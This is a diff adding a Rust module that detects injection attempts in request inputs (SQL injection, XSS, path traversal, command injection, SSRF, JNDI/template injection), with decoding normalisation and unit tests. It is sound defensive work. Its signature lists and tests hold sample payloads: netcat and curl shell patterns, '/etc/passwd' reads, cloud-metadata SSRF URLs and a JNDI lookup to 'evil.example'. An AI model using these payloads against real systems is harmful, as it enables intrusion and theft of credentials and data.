@@ -1,0 +1,378 @@
+//! Injection attempts in request inputs: SQL injection, XSS, path traversal, command injection,
+//! SSRF-style URLs and template/JNDI injection. Values are normalised first (repeated
+//! percent-decoding, `%uXXXX`, `+`, HTML entities, full-width characters, SQL comments, case),
+//! so encoding tricks do not hide a payload; signatures are chosen to leave ordinary text alone
+//! (`O'Brien`, `union station`, `select a plan`).
+
+use serde::{Deserialize, Serialize};
+
+/// The kind of injection.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Injection {
+    SqlInjection,
+    Xss,
+    PathTraversal,
+    CommandInjection,
+    Ssrf,
+    TemplateInjection,
+}
+
+impl Injection {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Injection::SqlInjection => "sql_injection",
+            Injection::Xss => "xss",
+            Injection::PathTraversal => "path_traversal",
+            Injection::CommandInjection => "command_injection",
+            Injection::Ssrf => "ssrf",
+            Injection::TemplateInjection => "template_injection",
+        }
+    }
+}
+
+/// One detected attempt: what, where, and which signature matched (not the whole payload).
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Attempt {
+    pub kind: Injection,
+    pub location: String,
+    pub signature: &'static str,
+}
+
+/// Longest value inspected.
+const MAX_VALUE: usize = 8192;
+
+fn hex(b: u8) -> Option<u8> {
+    (b as char).to_digit(16).map(|d| d as u8)
+}
+
+/// One round of `%XX` and `%uXXXX` decoding (and `+` as space).
+fn percent_round(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'%' if i + 5 < b.len() && (b[i + 1] == b'u' || b[i + 1] == b'U') => {
+                let code = b
+                    .get(i + 2..i + 6)
+                    .and_then(|h| std::str::from_utf8(h).ok())
+                    .and_then(|h| u32::from_str_radix(h, 16).ok());
+                match code.and_then(char::from_u32) {
+                    Some(c) => {
+                        let mut buf = [0u8; 4];
+                        out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
+                        i += 6;
+                    }
+                    None => {
+                        out.push(b'%');
+                        i += 1;
+                    }
+                }
+            }
+            b'%' => match (b.get(i + 1).copied().and_then(hex), b.get(i + 2).copied().and_then(hex)) {
+                (Some(h), Some(l)) => {
+                    out.push(h * 16 + l);
+                    i += 3;
+                }
+                _ => {
+                    out.push(b'%');
+                    i += 1;
+                }
+            },
+            b'+' => {
+                out.push(b' ');
+                i += 1;
+            }
+            c => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// Decodes until stable (at most three rounds), maps full-width forms and HTML entities to
+/// ASCII, lower-cases, turns SQL comments into spaces and collapses whitespace.
+pub fn normalize(raw: &str) -> String {
+    let mut s: String = raw.chars().take(MAX_VALUE).collect();
+    for _ in 0..3 {
+        let next = percent_round(&s);
+        if next == s {
+            break;
+        }
+        s = next;
+    }
+    let s = s
+        .replace("&#39;", "'")
+        .replace("&#x27;", "'")
+        .replace("&quot;", "\"")
+        .replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&#60;", "<")
+        .replace("&#x3c;", "<")
+        .replace("&amp;", "&");
+    let mapped: String = s
+        .chars()
+        .map(|c| match c as u32 {
+            // Full-width ASCII variants (U+FF01..U+FF5E) and look-alike quotes.
+            0xFF01..=0xFF5E => char::from_u32(c as u32 - 0xFF01 + 0x21).unwrap_or(c),
+            0x2018 | 0x2019 | 0x02BC => '\'',
+            0x201C | 0x201D => '"',
+            _ => c.to_ascii_lowercase(),
+        })
+        .collect();
+    let no_comments = mapped.replace("/**/", " ").replace("/*", " ").replace("*/", " ");
+    let mut out = String::with_capacity(no_comments.len());
+    let mut space = false;
+    for c in no_comments.chars() {
+        if c.is_whitespace() {
+            if !space {
+                out.push(' ');
+            }
+            space = true;
+        } else {
+            out.push(c);
+            space = false;
+        }
+    }
+    out
+}
+
+const SQL: &[&str] = &[
+    "' or '1'='1",
+    "' or 1=1",
+    "\" or 1=1",
+    " or 1=1--",
+    "' or 'a'='a",
+    "') or ('1'='1",
+    "' and 1=1",
+    "' and '1'='1",
+    "union select",
+    "union all select",
+    "' union",
+    "sleep(",
+    "benchmark(",
+    "waitfor delay",
+    "pg_sleep",
+    "; drop table",
+    "';--",
+    "'--",
+    "' --",
+    "'#",
+    "information_schema",
+    "extractvalue(",
+    "updatexml(",
+    "load_file(",
+    "into outfile",
+    "@@version",
+    "' and sleep",
+    "1' and '1",
+    "order by 1--",
+    "xp_cmdshell",
+    "having 1=1",
+];
+const XSS: &[&str] = &[
+    "<script",
+    "javascript:",
+    "onerror=",
+    "onload=",
+    "onmouseover=",
+    "onfocus=",
+    "<img src",
+    "<svg",
+    "<iframe",
+    "document.cookie",
+    "alert(",
+    "<body onload",
+    "vbscript:",
+    "srcdoc=",
+];
+const TRAVERSAL: &[&str] =
+    &["../", "..\\", "/etc/passwd", "/etc/shadow", "c:\\windows", "win.ini", "\0", "....//", "/proc/self/"];
+const COMMAND: &[&str] = &[
+    "; cat ",
+    ";cat ",
+    "| cat ",
+    "|cat ",
+    "; id",
+    ";id",
+    "| id",
+    "$(",
+    "`",
+    "&& id",
+    "&& cat ",
+    "| nc ",
+    "|nc ",
+    "; nc ",
+    "/bin/sh",
+    "/bin/bash",
+    "| sh",
+    "|sh",
+    "; ls",
+    ";ls",
+    "; wget ",
+    "; curl ",
+    "| whoami",
+    "; whoami",
+    "&& whoami",
+    "; ping ",
+    "| ping ",
+];
+const TEMPLATE: &[&str] =
+    &["${jndi:", "{{7*7}}", "${7*7}", "#{7*7}", "<%=", "{{config", "{{self", "${{", "{{''.__class__", "*{7*7}"];
+const SSRF_SCHEMES: &[&str] = &["file://", "gopher://", "dict://", "ftp://", "ldap://", "jar:"];
+const SSRF_HOSTS: &[&str] = &[
+    "169.254.169.254",
+    "metadata.google.internal",
+    "metadata.azure",
+    "localhost",
+    "127.",
+    "0.0.0.0",
+    "[::1]",
+    "[::]",
+    "10.",
+    "192.168.",
+    "172.16.",
+    "172.17.",
+    "172.18.",
+    "172.19.",
+    "172.2",
+    "172.30.",
+    "172.31.",
+    "100.100.100.200",
+];
+
+fn first_match(value: &str, signatures: &'static [&'static str]) -> Option<&'static str> {
+    signatures.iter().copied().find(|s| value.contains(s))
+}
+
+/// The host part of a URL value, if the value is a URL.
+fn url_host(value: &str) -> Option<&str> {
+    let rest = value.split_once("://")?.1;
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let authority = rest.get(..end)?;
+    Some(authority.rsplit('@').next().unwrap_or(authority))
+}
+
+/// Checks one input value (already named by `location`). `url_param` says the application takes
+/// a URL here (a parameter named url/uri/target/... or a value that is one).
+pub fn inspect(location: &str, raw: &str) -> Vec<Attempt> {
+    let v = normalize(raw);
+    let mut out = Vec::new();
+    let mut add = |kind, signature| out.push(Attempt { kind, location: location.to_string(), signature });
+    if let Some(sig) = first_match(&v, SQL) {
+        add(Injection::SqlInjection, sig);
+    }
+    if let Some(sig) = first_match(&v, XSS) {
+        add(Injection::Xss, sig);
+    }
+    if let Some(sig) = first_match(&v, TRAVERSAL) {
+        add(Injection::PathTraversal, sig);
+    }
+    if let Some(sig) = first_match(&v, TEMPLATE) {
+        add(Injection::TemplateInjection, sig);
+    }
+    if let Some(sig) = first_match(&v, COMMAND) {
+        // A backtick or `$(` inside a template payload is that payload, not a shell.
+        if !(sig == "$(" && v.contains("${")) {
+            add(Injection::CommandInjection, sig);
+        }
+    }
+    if let Some(sig) = first_match(&v, SSRF_SCHEMES).filter(|s| v.starts_with(s) || v.contains(&format!("={s}"))) {
+        add(Injection::Ssrf, sig);
+    } else if let Some(host) = url_host(&v) {
+        if let Some(sig) = SSRF_HOSTS.iter().copied().find(|h| host.starts_with(h)) {
+            add(Injection::Ssrf, sig);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(v: &str) -> Vec<Injection> {
+        inspect("q", v).into_iter().map(|a| a.kind).collect()
+    }
+
+    #[test]
+    fn decoding_tricks_are_undone() {
+        assert_eq!(normalize("%2527%2520OR%25201%253D1--"), "' or 1=1--");
+        assert_eq!(normalize("%u0027+union%2F**%2Fselect"), "' union select");
+        assert_eq!(normalize("\u{FF07} OR 1=1"), "' or 1=1");
+        assert_eq!(normalize("&lt;ScRiPt&gt;"), "<script>");
+        assert_eq!(normalize("a \t\n b"), "a b");
+    }
+
+    #[test]
+    fn attacks_by_kind() {
+        for v in [
+            "' OR 1=1--",
+            "1' UNION SELECT username,password FROM users--",
+            "x' AND SLEEP(5)--",
+            "%27%20or%20%271%27%3D%271",
+            "1;WAITFOR DELAY '0:0:5'",
+        ] {
+            assert_eq!(kinds(v), vec![Injection::SqlInjection], "{v}");
+        }
+        for v in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "javascript:alert(document.cookie)",
+            "%3Csvg%2Fonload%3Dalert(1)%3E",
+        ] {
+            assert!(kinds(v).contains(&Injection::Xss), "{v}");
+        }
+        for v in [
+            "../../etc/passwd",
+            "..%2f..%2fetc%2fpasswd",
+            "%2e%2e%2f%2e%2e%2fwin.ini",
+            "....//....//etc/passwd",
+            "report.pdf%00.png",
+        ] {
+            assert!(kinds(v).contains(&Injection::PathTraversal), "{v}");
+        }
+        for v in ["127.0.0.1; cat /etc/passwd", "x$(id)", "`whoami`", "a | nc 10.0.0.1 4444", "8.8.8.8 && whoami"] {
+            assert!(kinds(v).contains(&Injection::CommandInjection), "{v}");
+        }
+        for v in [
+            "http://169.254.169.254/latest/meta-data/",
+            "http://localhost:6379/",
+            "file:///etc/passwd",
+            "gopher://127.0.0.1:25/",
+            "http://10.0.0.5/admin",
+        ] {
+            assert!(kinds(v).contains(&Injection::Ssrf), "{v}");
+        }
+        for v in ["${jndi:ldap://evil.example/a}", "{{7*7}}", "${7*7}", "#{7*7}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"]
+        {
+            assert!(kinds(v).contains(&Injection::TemplateInjection), "{v}");
+        }
+    }
+
+    #[test]
+    fn ordinary_text_is_left_alone() {
+        for v in [
+            "O'Brien",
+            "union station",
+            "select a plan",
+            "rock & roll",
+            "order by date",
+            "https://www.example.com/products?id=5",
+            "price > 10 and < 20",
+            "C++ templates",
+            "50% off",
+            "what's new",
+            "e-mail me at bob@example.com",
+            "10.5",
+            "a/b/c.txt",
+            "money $5",
+            "{\"a\": 1}",
+        ] {
+            assert_eq!(kinds(v), vec![], "{v}");
+        }
+    }
+}
